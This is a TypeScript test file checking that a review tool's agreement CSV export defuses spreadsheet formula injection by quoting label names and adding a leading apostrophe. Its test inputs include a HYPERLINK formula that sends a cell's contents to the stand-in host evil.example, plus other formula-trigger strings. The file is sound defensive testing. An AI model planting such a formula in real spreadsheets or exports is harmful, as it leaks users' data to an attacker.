/**
 * The agreement CSV against spreadsheet formula injection (issue 17): a
 * label name, which may come from an outside SEG or be typed, never reaches
 * a spreadsheet as a live formula, while the numbers we write stay numbers.
 * The full read-back by Python's csv module is in review-agreement.tools.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { compareDocuments } from '../../src/core/review/agreement.js';
import { agreementCsv } from '../../src/core/review/agreement-csv.js';
import { HAND, label, prism, rect, snapshot } from './support/review-documents.js';

/** One CSV line by hand per RFC 4180 (quoted fields, doubled quotes), enough for these rows. */
function fields(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') (value += '"'), (i += 2);
        else if (line[i] === '"') break;
        else value += line[i++];
      }
      out.push(value);
      i += 2;
    } else {
      const end = line.indexOf(',', i);
      out.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return out;
}

describe('agreement CSV and formula injection', () => {
  const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-3.5', '@SUM(A1:A9)', '\tcmd', '\rcmd'];

  it('REQ-SEC-CSV-1: a label name starting with =, +, -, @, tab or carriage return is written quoted with a leading apostrophe', () => {
    const labels = [...dangerous.map((name, i) => label(i + 1, name)), label(7, 'L4/L5 disc'), label(8, 'a=b')];
    const regions = labels.flatMap((l) => prism(l.id, [2], rect(0, 0, 2, 2)));
    const doc = snapshot(labels, regions, HAND);
    const lines = agreementCsv(compareDocuments(doc, structuredClone(doc), HAND), { decimals: 2 }).split('\r\n');
    expect(lines.slice(1, 7).map((l) => l.split(',1.00,')[0])).toEqual([
      '1,1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
      '2,2,"\'+1+2"',
      '3,3,"\'-3.5"',
      '4,4,"\'@SUM(A1:A9)"',
      '5,5,"\'\tcmd"',
      '6,6,"\'\rcmd"',
    ]);
    // Names that do not start a formula are written as before.
    expect(fields(lines[7]!)[2]).toBe('L4/L5 disc');
    expect(fields(lines[8]!)[2]).toBe('a=b');
    // Every text cell read back starts with the apostrophe and keeps the name after it.
    for (const [i, name] of dangerous.entries()) {
      expect(fields(lines[i + 1]!)[2]).toBe(`'${name}`);
    }
  });

  it('REQ-SEC-CSV-2: a text cell that looks like a negative number is neutralised; a negative number we write stays a number', () => {
    const a = snapshot([label(1, '-50.00')], prism(1, [2], rect(0, 0, 4, 4)), HAND);
    const b = snapshot([label(1, '-50.00')], prism(1, [2], rect(0, 0, 2, 4)), HAND);
    const row = agreementCsv(compareDocuments(a, b, HAND), { decimals: 2 }).split('\r\n')[1]!.split(',');
    // B holds half of A's 16 pixels on the same slice: −50 %, written bare.
    expect(row[11]).toBe('-50.00');
    expect(row.slice(0, 3)).toEqual(['1', '1', '"\'-50.00"']);
  });
});
